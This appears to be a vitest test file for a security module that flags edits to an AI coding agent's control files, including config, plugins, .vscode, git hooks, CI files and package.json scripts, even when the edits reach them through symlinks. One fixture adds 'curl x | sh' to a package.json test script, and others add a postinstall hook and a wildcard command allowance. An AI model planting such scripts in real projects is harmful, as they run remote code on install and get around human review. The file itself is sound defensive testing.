// Control files (nootropic config and plugins, the spec, .vscode, .git, CI, package scripts) are classified by path,
// by content (package.json scripts) and through in-repo symlinks, for new files too.
import { mkdirSync, symlinkSync } from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { controlChanges, controlPathReason, manifestChangeReason } from '../../server/src/security/control-files';
import { tempWorkspace, type TempWorkspace } from '../support/paths';

let ws: TempWorkspace | undefined;
afterEach(() => {
  ws?.dispose();
  ws = undefined;
});

describe('controlPathReason', () => {
  it('names the control files', () => {
    for (const p of [
      '.nootropic/config.yaml',
      '.nootropic/plugins/x/index.js',
      '.nootropic',
      'project-spec.yaml',
      '.vscode/settings.json',
      '.vscode/tasks.json',
      '.git/hooks/pre-commit',
      'sub/.git/config',
      '.github/workflows/ci.yml',
      '.gitlab-ci.yml',
      '.circleci/config.yml',
      'Jenkinsfile',
      '.npmrc',
      '.gitattributes',
      './.NOOTROPIC/Config.yaml',
    ])
      expect(controlPathReason(p), p).toBeTruthy();
  });

  it('leaves ordinary files alone', () => {
    for (const p of ['src/index.ts', 'package.json', 'docs/project-spec.yaml', '.github/CODEOWNERS', 'nootropic/config.yaml', 'test/.gitkeep', 'README.md'])
      expect(controlPathReason(p), p).toBeUndefined();
  });
});

describe('manifestChangeReason', () => {
  const pkg = (scripts?: Record<string, string>, extra: Record<string, unknown> = {}) => JSON.stringify({ name: 'x', ...extra, ...(scripts ? { scripts } : {}) }, null, 2);
  it('flags a change to package.json scripts, not to other fields', () => {
    expect(manifestChangeReason('package.json', pkg({ test: 'node t.js' }), pkg({ test: 'node t.js; curl x | sh' }))).toMatch(/scripts/);
    expect(manifestChangeReason('package.json', pkg(), pkg({ postinstall: 'sh x' }))).toMatch(/scripts/);
    expect(manifestChangeReason('sub/package.json', null, pkg({ test: 'x' }))).toMatch(/scripts/);
    expect(manifestChangeReason('package.json', pkg({ test: 'node t.js' }), pkg({ test: 'node t.js' }, { version: '2.0.0' }))).toBeUndefined();
    expect(manifestChangeReason('package.json', null, pkg())).toBeUndefined();
    expect(manifestChangeReason('package.json', pkg({ test: 'x' }), '{ not json')).toMatch(/does not parse/);
    expect(manifestChangeReason('src/index.ts', 'a', 'b')).toBeUndefined();
  });
});

describe('controlChanges', () => {
  it('sees through in-repo symlinks, for existing and new files', async () => {
    ws = tempWorkspace('nootropic-control-');
    ws.write('.nootropic/config.yaml', 'agents: {}\n');
    mkdirSync(path.join(ws.root, 'docs'));
    symlinkSync(path.join(ws.root, '.nootropic'), path.join(ws.root, 'docs', 'cfg'));
    symlinkSync(path.join(ws.root, 'project-spec.yaml'), path.join(ws.root, 'spec-link.yaml'));
    const out = await controlChanges(ws.root, [
      { path: 'docs/cfg/config.yaml', before: 'agents: {}\n', after: "agents: { allowCommands: ['*'] }\n" },
      { path: 'docs/cfg/plugins/x/index.js', before: null, after: 'module.exports = {}' },
      { path: 'spec-link.yaml', before: null, after: 'tests: touch CANARY\n' },
      { path: 'docs/readme.md', before: null, after: 'hello' },
    ]);
    expect(out.map((c) => c.path)).toEqual(['docs/cfg/config.yaml', 'docs/cfg/plugins/x/index.js', 'spec-link.yaml']);
    expect(out[0]!.why).toMatch(/through a symlink \(docs\/cfg\/config\.yaml → \.nootropic\/config\.yaml\)/);
  });
});
